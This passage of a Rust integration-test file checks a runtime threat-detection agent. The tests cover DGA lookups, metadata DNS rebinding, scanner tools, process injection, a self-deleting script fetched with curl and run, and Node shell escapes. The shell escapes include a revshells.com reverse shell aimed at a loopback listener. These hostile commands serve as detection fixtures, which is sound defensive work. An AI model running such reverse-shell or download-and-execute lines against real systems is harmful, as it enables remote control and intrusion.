        let mut expected = vec![list.feeds.as_str()];
        // The tester's subdomains of AWS's C&C test domain are C&C too.
        if list.domain.ends_with(".guarddutyc2activityb.com") {
            expected.push(c2);
        }
        expected.sort();
        let mut got = types(&found);
        got.sort();
        assert_eq!(got, expected, "{}", list.domain);
        let f = found
            .iter()
            .find(|f| f.finding_type == list.feeds.as_str())
            .expect("the tester's type");
        assert_eq!(lists_of(f), [list.name], "{}", list.domain);
    }
    // The tester's own C&C name, under AWS's test domain; a look-alike is nothing.
    let pid = resolver.query("c2.guarddutyc2activityb.com");
    assert_eq!(types(&findings(&mut d, &tree_events(pid))), [c2]);
    let pid = resolver.query("guarddutyc2activityb.org");
    assert!(findings(&mut d, &tree_events(pid)).is_empty());
}

#[test]
fn several_generated_names_from_one_process_are_dga() {
    if !privileged("several_generated_names_from_one_process_are_dga") {
        return;
    }
    // Generated names are not registered: every answer is NXDOMAIN (the DGA finding counts
    // NXDOMAIN names; resolving ones need many more).
    let resolver = Resolver::start("nxdomain");
    // One resolver process (glibc through `getent hosts`; `ahosts` would skip DNS: with only
    // loopback up, AI_ADDRCONFIG finds no address family to ask for) looking up three names.
    let generated = [
        "xjo4vk9bk1f19hxz.net",
        "qwzx8vj3kq1p7rlt.com",
        "zk3j9vq8xw2m4plr.org",
    ];
    let mut args = vec!["hosts"];
    args.extend_from_slice(&generated);
    let pid = resolver.run("getent", &args);
    let found = detect(pid, ThreatIntel::empty());
    assert_eq!(types(&found), ["Trojan:Runtime/DGADomainRequest.C!DNS"]);
    let names = &found[0].context.additional["dgaDomains"];
    for n in generated {
        assert!(names.contains(n), "{n} in {names}");
    }

    // Ordinary names from one process: nothing.
    let pid = resolver.run(
        "getent",
        &["hosts", "github.com", "static.crates.io", "deb.debian.org"],
    );
    let events = tree_events(pid);
    let queries = events
        .iter()
        .filter(|e| matches!(e, Event::Dns(d) if d.direction == "query"))
        .count();
    assert!(
        queries >= 3,
        "the lookups went out as DNS queries ({queries})"
    );
    assert!(findings(&mut detector(ThreatIntel::empty()), &events).is_empty());
}

#[test]
fn name_resolving_to_the_metadata_address_is_a_rebind() {
    if !privileged("name_resolving_to_the_metadata_address_is_a_rebind") {
        return;
    }
    // The stub answers with the metadata address; nothing is ever sent to it.
    let rebinding = Resolver::start("169.254.169.254");
    let name = format!("{}.rebind.vigil-test.example", nonce());
    let pid = rebinding.query(&name);
    let found = detect(pid, ThreatIntel::empty());
    assert_eq!(
        types(&found),
        ["UnauthorizedAccess:Runtime/MetadataDNSRebind"]
    );
    assert_eq!(
        found[0].dns.as_ref().map(|d| d.domain.as_str()),
        Some(name.as_str())
    );
    let pid = rebinding.query("metadata.google.internal");
    assert!(
        detect(pid, ThreatIntel::empty()).is_empty(),
        "a known metadata name"
    );
    drop(rebinding);

    let normal = Resolver::start("10.53.0.7");
    let pid = normal.query(&name);
    assert!(detect(pid, ThreatIntel::empty()).is_empty());
}

#[test]
fn ordinary_workload_raises_nothing_above_low() {
    if !privileged("ordinary_workload_raises_nothing_above_low") {
        return;
    }
    let dir = Scratch::new("work");
    std::fs::write(dir.0.join("tiny.c"), "int main(void) { return 0; }\n").expect("tiny.c");
    // State of a package manager and of a cron-like job, and a daemon's log: removed by this
    // process afterwards (deleting a log from the workload would be log tampering).
    let var_lib = PathBuf::from(format!("/var/lib/vigil-test-{}", nonce()));
    let log = PathBuf::from(format!("/var/log/vigil-test-{}.log", nonce()));
    struct Cleanup(PathBuf, PathBuf);
    impl Drop for Cleanup {
        fn drop(&mut self) {
            let _ = std::fs::remove_dir_all(&self.0);
            let _ = std::fs::remove_file(&self.1);
        }
    }
    let _cleanup = Cleanup(var_lib.clone(), log.clone());
    let script = format!(
        "cd {d} && for i in 1 2 3; do ls -la / >/dev/null; cat /etc/os-release >/dev/null; done; \
         cargo --version; rustc --version; gcc -O2 -o tiny tiny.c && ./tiny; \
         tar czf a.tgz tiny.c && tar xzf a.tgz; sha256sum tiny.c; grep -r main . >/dev/null; \
         ps aux >/dev/null; id; uname -a; chmod 0644 tiny.c; find . -name '*.c' >/dev/null; \
         git --version; sort /etc/passwd | head -1 >/dev/null; env >/dev/null; \
         mkdir -p {v}/info {v}/lists {v}/anacron; \
         for p in alpha beta; do echo \"Package: $p\" > {v}/info/$p.list.new && \
           mv {v}/info/$p.list.new {v}/info/$p.list; cp tiny.c {v}/lists/$p.c; done; \
         echo \"$(date) daemon started\" >> {l}; \
         for job in daily weekly; do sh -c \"date +%Y%m%d > {v}/anacron/cron.$job; \
           echo cron.$job ran >> {l}\"; done; \
         echo \"$(date) daemon stopping\" >> {l}; true",
        d = dir.0.display(),
        v = var_lib.display(),
        l = log.display(),
    );
    let pid = run(Command::new("sh").args(["-c", &script]));
    let events = tree_events(pid);
    let execs = events
        .iter()
        .filter(|e| matches!(e, Event::Exec(_)))
        .count();
    assert!(execs >= 20, "the workload ran ({execs} execs)");
    // The exemptions were exercised: a new binary ran and the sensitive log was written.
    assert!(
        events
            .iter()
            .any(|e| matches!(e, Event::Exec(x) if x.written_by.is_some())),
        "./tiny ran as a newly written binary"
    );
    let log_writes = events
        .iter()
        .filter(
            |e| matches!(e, Event::File(f) if f.resolved_path.as_deref() == Some(log.as_path())),
        )
        .count();
    assert!(
        log_writes >= 4,
        "the daemon's log writes were seen ({log_writes})"
    );
    assert!(
        std::fs::read_to_string(var_lib.join("info/beta.list")).is_ok_and(|t| t.contains("beta"))
    );
    let (intel, _) = vigil_detection::load(&IntelConfig::default()).expect("default intel");
    let found = findings(&mut detector(intel), &events);
    let above_low: Vec<String> = found
        .iter()
        .filter(|f| f.severity_label > SeverityLabel::Low)
        .map(|f| format!("{} {}", f.finding_type, f.description))
        .collect();
    assert!(above_low.is_empty(), "{above_low:#?}");
}

/// The agent binary end to end: `run --findings-only` prints the finding as it happens and
/// stores it; `findings list` and `findings show` read it back after the agent stopped.
#[test]
fn agent_prints_stores_and_lists_findings() {
    if !privileged("agent_prints_stores_and_lists_findings") {
        return;
    }
    let dir = Scratch::new("e2e");
    let db = dir.0.join("findings.db");
    let tool = dir.program("/bin/true", "masscan");
    let mut agent = Command::new(AGENT_BIN)
        .args(["run", "--findings-only", "--duration", "60s", "--db"])
        .arg(&db)
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("start the agent");
    let stdout = agent.stdout.take().expect("stdout");
    let (tx, rx) = std::sync::mpsc::channel::<String>();
    std::thread::spawn(move || {
        for line in BufReader::new(stdout).lines().map_while(Result::ok) {
            let _ = tx.send(line);
        }
    });
    // Run the tool until the agent (which takes a moment to attach) reports it. Other tests
    // of this binary run at the same time: their findings are skipped.
    let ours = |f: &Finding| {
        f.process
            .as_ref()
            .is_some_and(|p| p.executable_path == tool.display().to_string())
    };
    let mut printed: Option<Finding> = None;
    // Until the finding shows: on a busy machine loading the intel and verifying the programs
    // can take longer than any fixed number of tries.
    let deadline = std::time::Instant::now() + Duration::from_secs(300);
    'wait: while std::time::Instant::now() < deadline {
        let _ = Command::new(&tool).arg("127.0.0.1").status();
        while let Ok(line) = rx.recv_timeout(Duration::from_millis(500)) {
            let f: Finding = serde_json::from_str(&line).expect("a finding document per line");
            if ours(&f) {
                printed = Some(f);
                break 'wait;
            }
        }
    }
    // SAFETY: signalling our own child.
    unsafe { libc::kill(agent.id() as i32, libc::SIGTERM) };
    assert!(agent.wait().expect("agent exits").success());
    let finding = printed.expect("the agent printed the finding");
    assert_eq!(finding.finding_type, "Execution:Runtime/SuspiciousTool");
    assert_eq!(rule_id(&finding), "tool-masscan");

    let list = Command::new(AGENT_BIN)
        .args([
            "findings",
            "list",
            "--json",
            "--type",
            "Execution:Runtime/SuspiciousTool",
            "--db",
        ])
        .arg(&db)
        .output()
        .expect("findings list");
    assert!(list.status.success());
    let listed: Vec<Finding> = String::from_utf8_lossy(&list.stdout)
        .lines()
        .map(|l| serde_json::from_str::<Finding>(l).expect("finding line"))
        .filter(|f| ours(f))
        .collect();
    assert_eq!(listed.len(), 1, "one finding, repeats aggregated");
    assert_eq!(listed[0].id, finding.id);
    assert!(listed[0].count >= 1);

    let show = Command::new(AGENT_BIN)
        .args(["findings", "show", &finding.id[..8], "--db"])
        .arg(&db)
        .output()
        .expect("findings show");
    assert!(show.status.success());
    let text = String::from_utf8_lossy(&show.stdout);
    assert!(text.contains("process tree:"), "{text}");
    assert!(
        text.contains("masscan") && text.contains("<- acting process"),
        "{text}"
    );

    let none = Command::new(AGENT_BIN)
        .args(["findings", "list", "--severity", "critical", "--db"])
        .arg(&db)
        .output()
        .expect("findings list");
    assert!(none.status.success());
    let critical = String::from_utf8_lossy(&none.stdout);
    assert!(
        !critical.contains(&finding.id),
        "a Medium finding is not listed as critical"
    );
}

/// A self-deleting dropper through the agent binary: a `#!/bin/sh` script fetched with curl
/// from a loopback server, made executable and run, whose first line removes it. The agent
/// reads records in batches (a quarter MiB or its poll interval), so on a busy host it reads
/// such an exec after the script and its process are gone; the test makes that certain by
/// stopping the agent (its parent's SIGSTOP is no tampering) while the dropper runs. No file
/// is left to `stat` and no process to read `/proc/<pid>/exe` of: the agent takes the
/// interpreter from the argv the kernel wrote (checked against the inode it ran), and the
/// shell's open of its script carries the writer the kernel recorded:
/// `behaviour-download-exec`, naming curl and the script.
#[test]
fn a_self_deleting_downloaded_script_through_the_agent_binary() {
    let test = "a_self_deleting_downloaded_script_through_the_agent_binary";
    if !privileged(test) {
        return;
    }
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("address").port();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut reader = BufReader::new(&stream);
            let mut line = String::new();
            while reader.read_line(&mut line).is_ok_and(|n| n > 2) {
                line.clear();
            }
            let body = b"#!/bin/sh\nrm -f \"$0\"\ntrue\n";
            let _ = write!(
                stream,
                "HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n",
                body.len()
            );
            let _ = stream.write_all(body);
        }
    });
    let dir = Scratch::new("selfdel");
    let (mut agent, rx) = agent_attached(&["--no-store", "--duration", "600s"], &dir.0);
    // The dropper while the agent is stopped. Through bash, as a script's lines: the script's
    // interpreter (dash) is not its parent's image, which the agent would otherwise take.
    let script = dir.0.join("s.sh");
    // SAFETY: signalling our own child.
    unsafe { libc::kill(agent.id() as i32, libc::SIGSTOP) };
    let status = Command::new("/bin/bash")
        .arg("-c")
        .arg(format!(
            "curl -s -o {0} http://127.0.0.1:{port}/s.sh && chmod +x {0} && {0}",
            script.display()
        ))
        .status();
    // SAFETY: as above.
    unsafe { libc::kill(agent.id() as i32, libc::SIGCONT) };
    let status = status.expect("bash");
    assert!(status.success(), "{status}");
    assert!(!script.exists(), "the script removed itself");
    let mut found: Option<Finding> = None;
    while let Ok(f) = rx.recv_timeout(Duration::from_secs(60)) {
        if rule_id(&f) == "behaviour-download-exec"
            && f.context.file_path.as_deref() == script.to_str()
        {
            found = Some(f);
            break;
        }
    }
    // SAFETY: signalling our own child.
    unsafe { libc::kill(agent.id() as i32, libc::SIGTERM) };
    let _ = agent.wait();
    let f = found.expect("the self-deleting script was reported");
    assert_eq!(f.finding_type, "Execution:Runtime/SuspiciousCommand");
    assert_eq!(f.severity_label, SeverityLabel::High);
    assert_eq!(f.context.additional["downloadedBy"], "/usr/bin/curl");
    let shell = std::fs::canonicalize("/bin/sh").expect("/bin/sh");
    assert_eq!(
        f.process.as_ref().map(|p| p.executable_path.as_str()),
        shell.to_str(),
        "the script's process is its interpreter"
    );
}

/// `--disable-finding`: the agent never raises a disabled type, and raises the others. The
/// `vm_write` hook stays on (SecurityAgentTampered reads it too), so the detector is what keeps
/// `ProcessInjection.VirtualMemoryWrite` out.
#[test]
fn a_disabled_finding_type_is_never_raised_by_the_agent() {
    if !privileged("a_disabled_finding_type_is_never_raised_by_the_agent") {
        return;
    }
    let (mut agent, rx) = agent_findings(&[
        "--no-store",
        "--duration",
        "600s",
        "--disable-finding",
        "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite",
    ]);
    let trigger = |what: &str| {
        let child = Command::new(TRIGGER)
            .arg(what)
            .stdout(Stdio::null())
            .spawn()
            .expect("run vigil-trigger");
        let pid = child.id();
        let _ = child.wait_with_output();
        pid
    };
    let mut writers = Vec::new();
    let mut seen: Vec<Finding> = Vec::new();
    // Until the enabled type shows twice, for a ptrace after a memory write: the agent
    // (which takes a moment to attach) has handled the write by then. Other tests run at the
    // same time: only our processes' findings count.
    let mut raised = 0;
    let deadline = std::time::Instant::now() + Duration::from_secs(300);
    while raised < 2 && std::time::Instant::now() < deadline {
        writers.push(trigger("vm-write"));
        // A new finding each time: its key is the traced child.
        let tracer = trigger("ptrace-attach");
        let until = std::time::Instant::now() + Duration::from_secs(3);
        while let Some(left) = until.checked_duration_since(std::time::Instant::now()) {
            let Ok(f) = rx.recv_timeout(left) else { break };
            let pid = f.process.as_ref().map_or(0, |p| p.pid);
            if pid == tracer && f.finding_type == "DefenseEvasion:Runtime/ProcessInjection.Ptrace" {
                raised += 1;
            }
            seen.push(f);
            if raised > 0 && pid == tracer {
                break;
            }
        }
    }
    // SAFETY: signalling our own child.
    unsafe { libc::kill(agent.id() as i32, libc::SIGTERM) };
    let _ = agent.wait();
    assert_eq!(raised, 2, "the enabled type was raised twice");
    let ours: Vec<String> = seen
        .iter()
        .filter(|f| f.process.as_ref().is_some_and(|p| writers.contains(&p.pid)))
        .map(|f| format!("{} {}", f.finding_type, f.description))
        .collect();
    assert!(ours.is_empty(), "a disabled type was raised: {ours:#?}");
}

/// Splunk's "Linux Node Privilege Escalation" (GTFOBins' node): a one-liner hands a bare shell
/// the interpreter's standard streams (`child_process.spawn("/bin/sh", {stdio: [0, 1, 2]})`),
/// run by `sh -c` as a corpus runs it; the same call running a command (`["-c", "true"]`)
/// raises nothing. The other programs of those detections (cpulimit, csvtool, emacs, gem,
/// octave, openvpn, puppet, rpm, mysql, php) are not installed here: their command lines are
/// table cases (`detect::tests::gtfobins_shells_of_splunk_privilege_escalation_detections`).
#[test]
fn node_one_liner_handing_a_bare_shell_over() {
    if !privileged("node_one_liner_handing_a_bare_shell_over") {
        return;
    }
    if !Path::new("/usr/bin/node").exists() {
        eprintln!(
            "node_one_liner_handing_a_bare_shell_over: not run, /usr/bin/node is not installed"
        );
        return;
    }
    let line = r#"node -e 'require("child_process").spawn("/bin/sh", {stdio: [0, 1, 2]})'"#;
    let found = detect(
        run(Command::new("sh").args(["-c", line])),
        ThreatIntel::empty(),
    );
    let rules: Vec<&str> = found.iter().map(rule_id).collect();
    let f: Vec<_> = found
        .iter()
        .filter(|f| rule_id(f) == "exec-interpreter-pty-spawn")
        .collect();
    assert_eq!(f.len(), 1, "{rules:?}");
    assert_eq!(f[0].finding_type, "Execution:Runtime/SuspiciousCommand");
    assert_eq!(f[0].severity_label, SeverityLabel::High);

    // The revshells.com form: a socket piped to and from a shell spawned with no arguments,
    // against a listener on loopback that sends `exit`.
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("addr").port();
    let peer = std::thread::spawn(move || {
        if let Ok((mut conn, _)) = listener.accept() {
            use std::io::Write as _;
            let _ = conn.write_all(b"exit\n");
            let _ = conn.flush();
            std::thread::sleep(Duration::from_millis(500));
        }
    });
    let line = format!(
        r#"node -e 'var net=require("net"),cp=require("child_process"),sh=cp.spawn("sh", []);var c=new net.Socket();c.connect({port},"127.0.0.1",function(){{c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c);}});sh.on("exit",function(){{process.exit(0)}})'"#
    );
    let found = detect(
        run(Command::new("sh").args(["-c", &line])),
        ThreatIntel::empty(),
    );
    let _ = peer.join();
    let rules: Vec<&str> = found.iter().map(rule_id).collect();
    assert!(rules.contains(&"exec-interpreter-pty-spawn"), "{rules:?}");

    let line = r#"node -e 'require("child_process").spawn("/bin/sh", ["-c", "true"], {stdio: "inherit"})'"#;
    let found = detect(
        run(Command::new("sh").args(["-c", line])),
        ThreatIntel::empty(),
    );
    let rules: Vec<&str> = found.iter().map(rule_id).collect();
    assert!(found.is_empty(), "{rules:?}");
}
